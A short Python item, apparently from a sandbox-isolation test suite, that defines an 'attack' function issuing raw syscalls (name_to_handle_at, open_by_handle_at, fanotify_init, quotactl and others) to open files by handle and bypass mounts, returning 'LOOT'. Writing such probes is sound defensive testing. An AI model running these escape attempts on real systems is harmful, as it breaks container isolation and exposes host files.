# /// attack
# tries = "Open files by handle, bypassing the mounts."
# verdicts = ["accepted"]
# ///
def attack(root, worker):
    handle = (ctypes.c_char * 136).from_buffer_copy((128).to_bytes(4, "little") + bytes(132))
    system_call("name_to_handle_at", 303, -100, b"/", handle, ctypes.byref(ctypes.c_int()), 0)
    system_call("open_by_handle_at", 304, 3, handle, 0)
    system_call("fanotify_init", 300, 0, 0)
    system_call("inotify_init", 253)
    system_call("quotactl", 179, 0, 0, 0, 0)
    system_call("lookup_dcookie", 212, 0, 0, 0)
    return LOOT
